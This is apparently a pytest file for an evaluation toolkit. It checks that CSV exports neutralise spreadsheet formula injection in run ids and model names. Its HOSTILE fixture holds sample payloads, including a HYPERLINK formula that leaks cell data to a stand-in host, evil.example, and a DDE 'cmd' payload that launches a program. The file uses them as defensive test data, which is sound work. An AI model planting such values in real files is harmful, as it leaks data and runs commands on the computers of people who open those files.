"""CSV formula injection: run ids and model names that a spreadsheet would run as formulas.

Every CSV the toolkit writes (the report's tables/*.csv, ``--format csv`` of the analysis commands and
of ``bedside sql``) starts no text cell with = + - @ TAB or CR; numbers stay numbers; ``sql --raw-csv``
gives the text as stored.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest

from tests.analysis_sim import simulate_decisions
from tests.test_cli_process import bedside_process
from toolkit.protocol import PROTOCOL_VERSION
from toolkit.text._spreadsheet import neutralised, write_csv
from toolkit.store import Store

# run id -> (answer model, skill, judge passes)
HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': ("@SUM(1+1)", 1.0, 2),
    "-1+2": ("\t=1+2", 0.2, 1),
    "+1": ("\r=cmd|' /C calc'!A0", -0.5, 1),
}


def _write_run(store: Store, dataset, run_id: str, model: str, skill: float, passes: int, seed: int) -> None:
    decisions = simulate_decisions(dataset, run_id, skill, seed, passes=passes)
    store.write("runs", run_id, [{
        "run_id": run_id, "answer_model": model, "judge_model": "judge-x", "protocol_version": PROTOCOL_VERSION,
        "dataset_sha256": dataset.sha256, "source": "collected", "created_at": "2025-01-01T00:00:00Z",
        "settings": None}])
    case_ids = dataset.cases["case_id"].to_list()
    store.write("answers", run_id, [{
        "run_id": run_id, "case_id": c, "attempt": 1, "seq": i, "answer_model": model, "answer": f"answer {i}",
        "answer_temperature": 1.0, "started_at": "2025-01-01T00:00:00Z", "finished_at": "2025-01-01T00:01:00Z",
        "error": None} for i, c in enumerate(case_ids)])
    judged = decisions.select("case_id", "judge_model", "judge_pass").unique(maintain_order=True)
    store.write("judgments", run_id, [{
        "run_id": run_id, "case_id": r["case_id"], "judge_model": r["judge_model"], "judge_pass": r["judge_pass"],
        "attempt": 1, "answer_attempt": 1, "seq": len(case_ids) + i, "judge_temperature": 0.0, "raw_reply": "{}",
        "started_at": "2025-01-01T00:02:00Z", "finished_at": "2025-01-01T00:03:00Z", "error": None}
        for i, r in enumerate(judged.iter_rows(named=True))])
    store.write("decisions", run_id, decisions.to_arrow())


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory, sample_dataset) -> Path:
    store = Store.open(tmp_path_factory.mktemp("hostile-csv") / "store")
    store.write_dataset(sample_dataset)
    for seed, (run_id, (model, skill, passes)) in enumerate(HOSTILE.items()):
        _write_run(store, sample_dataset, run_id, model, skill, passes, seed)
    return store.root


def _stdout(args: list[str], tmp_path: Path) -> tuple[int, str, str]:
    """Exit code, stdout exactly as written (through a file: a pipe read as text would turn CR into LF), stderr."""
    out = tmp_path / "stdout.csv"
    done = bedside_process(args, redirect=f"> '{out}'")
    return done.returncode, _exact(out), done.stderr


def _exact(path: Path) -> str:
    with open(path, encoding="utf-8", newline="") as f:
        return f.read()


def _cells(text: str) -> list[list[str]]:
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("# ")]  # section titles
    return list(csv.reader(io.StringIO("".join(lines), newline="")))


def _assert_no_formula(text: str, where: str) -> None:
    """No cell a spreadsheet runs: a cell may start with '-' only as a number (polars never writes '+1')."""
    for row in _cells(text):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"{where}: formula cell {cell!r}")
            if cell[:1] == "-":
                try:
                    float(cell)
                except ValueError:
                    raise AssertionError(f"{where}: formula cell {cell!r}") from None


def test_report_tables_have_no_formula_cells(hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "report"
    done = bedside_process(["report", "--all", "--store", str(hostile_store), "--out", str(out), "--no-figures",
                            "--samples", "200"])
    assert done.returncode == 0, done.stderr
    tables = sorted((out / "tables").glob("*.csv"))
    assert len(tables) >= 5
    texts = {t.name: _exact(t) for t in tables}
    for name, text in texts.items():
        _assert_no_formula(text, name)
    joined = "".join(texts.values())
    assert "'=HYPERLINK(" in joined and "'-1+2" in joined and "'+1" in joined  # the runs are there, neutralised
    numbers = [float(c) for t in texts.values() for row in _cells(t) for c in row if c[:1] == "-"]
    assert numbers and all(n < 0 for n in numbers)  # negative numbers stay numbers


@pytest.mark.parametrize("command", [["compare"], ["items"], ["harms"], ["agreement"]])
def test_cli_csv_has_no_formula_cells(hostile_store: Path, command: list[str], tmp_path: Path) -> None:
    code, out, err = _stdout([*command, "--all", "--store", str(hostile_store), "--format", "csv", "--samples",
                              "200"], tmp_path)
    assert code == 0, err
    _assert_no_formula(out, " ".join(command))
    assert "'" in out


def test_sql_csv_neutralises_text_and_raw_csv_keeps_it(hostile_store: Path, tmp_path: Path) -> None:
    query = ("SELECT run_id, answer_model, overall_macro_mean - 1 AS below_one, completed_cases "
             "FROM run_summary ORDER BY run_id")
    code, out, err = _stdout(["sql", query, "--store", str(hostile_store), "--format", "csv"], tmp_path)
    assert code == 0, err
    _assert_no_formula(out, "sql")
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert {r["run_id"] for r in rows} == {f"'{run_id}" for run_id in HOSTILE}
    assert {r["answer_model"] for r in rows} == {f"'{model}" for model, _, _ in HOSTILE.values()}
    assert all(float(r["below_one"]) < 0 and not r["below_one"].startswith("'") for r in rows)
    code, raw, err = _stdout(["sql", query, "--store", str(hostile_store), "--format", "csv", "--raw-csv"], tmp_path)
    assert code == 0, err
    got = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert {r["run_id"] for r in got} == set(HOSTILE)
    assert {r["answer_model"] for r in got} == {model for model, _, _ in HOSTILE.values()}
    wrong = bedside_process(["sql", query, "--store", str(hostile_store), "--raw-csv"])
    assert wrong.returncode == 1 and wrong.stderr == "bedside: error: --raw-csv: only with --format csv\n"


def test_the_rule_touches_text_cells_and_headers_only() -> None:
    frame = pl.DataFrame({"=h": ["=a", "+b", "-c", "@d", "\te", "\rf", "g-h", "", None, "'i"],
                          "n": [-1.5, 1.0, -2.0, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0],
                          "k": pl.Series(["-x", "y"] * 5, dtype=pl.Categorical)})
    out = neutralised(frame)
    assert out.columns == ["'=h", "n", "k"]
    assert out["'=h"].to_list() == ["'=a", "'+b", "'-c", "'@d", "'\te", "'\rf", "g-h", "", None, "'i"]
    assert out["n"].to_list() == frame["n"].to_list() and out["k"].to_list() == ["'-x", "y"] * 5
    assert write_csv(frame, raw=True) == frame.write_csv()
    assert write_csv(pl.DataFrame({"a": [1, -2]})) == "a\n1\n-2\n"
